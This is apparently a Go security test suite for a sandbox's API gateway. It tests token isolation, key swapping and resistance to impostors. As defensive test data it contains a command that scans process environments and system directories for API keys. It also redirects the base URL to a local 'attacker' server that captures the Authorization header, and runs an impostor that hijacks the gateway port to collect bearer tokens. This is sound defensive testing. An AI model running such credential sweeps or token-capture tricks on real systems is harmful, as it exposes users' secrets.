//go:build linux

package hostile

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"mayfly.dev/mayfly"
	"mayfly.dev/mayfly/internal/agents/installation"
)

const door = "127.0.0.1:2929"

// withAsk is a repository with the program ask in it.
func withAsk(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := repository(t, files)
	program, err := os.ReadFile(filepath.Join(programs, "ask"))
	if err != nil {
		t.Fatal(err)
	}
	put(t, filepath.Join(dir, "ask"), string(program), 0o755)
	return dir
}

// held is an environment with a run that has told its token and stays.
type held struct {
	*installation.Installation
	env, run, token string
}

// hold starts a run that stays, after the given commands.
func hold(t *testing.T, in *installation.Installation, dir, env, before string) held {
	t.Helper()
	h := held{Installation: in, env: env}
	script := before + `echo "token $ANTHROPIC_AUTH_TOKEN"; while [ ! -e /tmp/end ]; do sleep 0.1; done`
	h.run = strings.TrimSpace(in.Mayfly(dir, "run", "--detach", "--name", env, "--", "sh", "-c", script))
	h.token = h.says(t, "token mf-")
	return h
}

// says waits until the run has written a line with the beginning, and returns
// its last word.
func (h held) says(t *testing.T, beginning string) string {
	t.Helper()
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		for line := range strings.Lines(h.Mayfly("/", "logs", h.run)) {
			if strings.HasPrefix(line, beginning) {
				words := strings.Fields(line)
				return words[len(words)-1]
			}
		}
	}
	t.Fatalf("the run does not say %q: %s", beginning, h.Mayfly("/", "logs", h.run))
	return ""
}

// ask asks from inside an environment.
func (h held) ask(args ...string) string {
	out, _ := h.Try("/", append([]string{"exec", h.env, "--", "./ask"}, args...)...)
	return out
}

// refusals are the reasons for which requests of the environment were refused.
func (h held) refusals(t *testing.T) []string {
	t.Helper()
	var reasons []string
	for line := range strings.Lines(h.Mayfly("/", "events", "--env", h.env, "--json")) {
		var e mayfly.Event
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("event %q: %v", line, err)
		}
		if e.Type == "gateway.refused" {
			reasons = append(reasons, string(e.Data))
		}
	}
	return reasons
}

func TestTokensOpenOneDoorForOneRun(t *testing.T) {
	in := start(t)
	dir := withAsk(t, nil)
	one, two := hold(t, in, dir, "one", ""), hold(t, in, dir, "two", "")
	in.Mayfly("/", "fork", "one", "--name", "copy")
	copied := held{Installation: in, env: "copy"}
	for _, h := range []held{one, two} {
		if got := h.ask("-token", h.token); !strings.HasPrefix(got, "200 ") {
			t.Fatalf("control: the token of %s at its own door: got = %s", h.env, got)
		}
	}
	if n := len(in.Model.Taken()); n != 2 {
		t.Errorf("requests upstream: got = %d, want 2", n)
	}
	forged := one.token[:len(one.token)-1] + string("0123456789abcdef"[strings.IndexByte("123456789abcdef0", one.token[len(one.token)-1])])
	for what, try := range map[string]struct {
		at    held
		token string
	}{
		"another run's token":   {two, one.token},
		"the token in a fork":   {copied, one.token},
		"a forged token":        {one, forged},
		"no token":              {one, ""},
		"the id without a code": {one, "mf-" + one.run},
		"a made-up key":         {one, "sk-ant-worthless"},
	} {
		before := len(try.at.refusals(t))
		if got := try.at.ask("-token", try.token); !strings.HasPrefix(got, "401 ") {
			t.Errorf("%s: got = %s, want 401", what, got)
		}
		if after := len(try.at.refusals(t)); after != before+1 {
			t.Errorf("%s: %d events of a refusal, want %d", what, after, before+1)
		}
	}
	in.Mayfly("/", "exec", "one", "--", "touch", "/tmp/end")
	in.Mayfly("/", "logs", "-f", one.run) // to the end of its output
	for ended := false; !ended; {
		var shown struct{ Runs []mayfly.Run }
		in.JSON(&shown, "env", "show", "one", "--json")
		ended = slices.ContainsFunc(shown.Runs, func(r mayfly.Run) bool { return r.ID == one.run && r.Phase.Ended() })
	}
	if got := one.ask("-token", one.token); !strings.HasPrefix(got, "401 ") {
		t.Errorf("after the run's end: got = %s, want 401", got)
	}
	if seen := in.Model.Taken(); len(seen) != 0 {
		t.Errorf("requests upstream: got = %+v, want none", seen)
	}
}

func TestTheRealKeyIsSwappedInOutside(t *testing.T) {
	in := start(t)
	h := hold(t, in, withAsk(t, nil), "one", "")
	if got := h.ask("-token", h.token); !strings.HasPrefix(got, "200 ") || strings.Contains(got, in.Key) {
		t.Errorf("got = %s", got)
	}
	seen := in.Model.Taken()
	if len(seen) != 1 || seen[0].Key != in.Key {
		t.Errorf("the upstream was shown %+v, want the real key", seen)
	}
	out := in.Mayfly("/", "exec", "one", "--", "sh", "-c", "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; env; grep -rs -D skip -h -a -o 'sk-canary-[a-z0-9]*' /workspace /home /etc /run /tmp; true")
	if !strings.Contains(out, h.token) {
		t.Fatalf("control: the token of the run is not seen either: %s", out)
	}
	if strings.Contains(out, in.Key) {
		t.Errorf("the key is inside: %s", out)
	}
}

// attacker is a server on the host's loopback that notes what it is shown.
type attacker struct {
	url  string
	seen chan string
}

func newAttacker(t *testing.T) attacker {
	t.Helper()
	a := attacker{seen: make(chan string, 100)}
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		a.seen <- r.Header.Get("Authorization")
	}))
	t.Cleanup(server.Close)
	a.url = server.URL
	return a
}

// got is what the attacker was shown, if anything.
func (a attacker) got() string {
	select {
	case s := <-a.seen:
		return "shown " + s
	default:
		return ""
	}
}

func TestARedirectedBaseURLLeadsNowhere(t *testing.T) {
	in := start(t)
	a := newAttacker(t)
	dir := withAsk(t, map[string]string{".env": "ANTHROPIC_BASE_URL=" + a.url + "\n"})
	// As a great many scripts and tools do it.
	script := "set -a; . ./.env; exec ./ask"
	if out, err := shell(dir, "ANTHROPIC_AUTH_TOKEN=real", script); err != nil || a.got() != "shown Bearer real" {
		t.Fatalf("control: got = %s, %v; want the key at the attacker's", out, err)
	}
	out, err := in.Try(dir, "run", "--name", "redirected", "--", "sh", "-c", script)
	if err == nil {
		t.Errorf("the redirected request was answered: %s", out)
	}
	if got := a.got(); got != "" {
		t.Errorf("the attacker was %s", got)
	}
}

func TestNobodyListensBesideTheGateway(t *testing.T) {
	in := start(t)
	h := hold(t, in, withAsk(t, nil), "one", "./ask -listen 127.0.0.1:2930 & ")
	if h.says(t, "listening"); !strings.Contains(h.ask("-url", "http://127.0.0.1:2930"), "impostor") {
		t.Fatal("control: the impostor does not answer at another port")
	}
	for _, address := range []string{door, "0.0.0.0:2929", "[::]:2929"} {
		out, err := in.Try("/", "exec", "one", "--", "timeout", "3", "./ask", "-listen", address)
		if err == nil || strings.Contains(out, "listening") {
			t.Errorf("%s: got = %s, want a refusal", address, out)
		}
	}
	if got := h.ask("-token", h.token); !strings.HasPrefix(got, "200 ") {
		t.Errorf("the gateway afterwards: got = %s", got)
	}
}

// A process may wait for the moment in which nobody listens, because the
// server is gone. It gets what it could have anyway, and the next server does
// not take its port for open.
func TestAnImpostorGainsNothing(t *testing.T) {
	in := start(t)
	dir := withAsk(t, nil)
	h := hold(t, in, dir, "one", "./ask -patience 1m -listen "+door+" & echo impostor $!; ")
	in.Kill()
	waitForListener(t)
	in.Serve()
	h.says(t, "listening")
	if got := h.ask(); !strings.HasPrefix(got, "200 impostor") {
		t.Fatalf("control: the impostor does not answer: got = %s", got)
	}
	shown := h.says(t, "asked with Bearer")
	out, err := in.Try("/", "fork", "one", "--name", "two", "--", "./ask")
	if err != nil || !strings.Contains(out, "Done.") {
		t.Errorf("a fork has a door of its own: got = %s, %v", out, err)
	}
	two := held{Installation: in, env: "two"}
	for _, at := range []held{h, two} {
		if got := at.ask("-token", shown); strings.Contains(got, "Done.") {
			t.Errorf("what the impostor was shown opens the door of %s: %s", at.env, got)
		}
	}
	in.Mayfly("/", "exec", "one", "--", "kill", h.says(t, "impostor"))
	for end := time.Now().Add(20 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		got := h.ask()
		if strings.Contains(got, "Done.") {
			break
		}
		if time.Now().After(end) {
			t.Fatalf("the gateway does not come back: got = %s", got)
		}
	}
}

// waitForListener waits until the impostor listens, without a server's help.
func waitForListener(t *testing.T) {
	t.Helper()
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, name := range lines {
			args, _ := os.ReadFile(name)
			sockets, _ := os.ReadFile(filepath.Join(filepath.Dir(name), "net", "tcp"))
			// The port in hexadecimal, and the state of listening.
			if strings.HasPrefix(string(args), "./ask\x00-patience") && strings.Contains(string(sockets), ":0B71 00000000:0000 0A") {
				return
			}
		}
	}
	t.Fatal("control: the impostor does not listen")
}
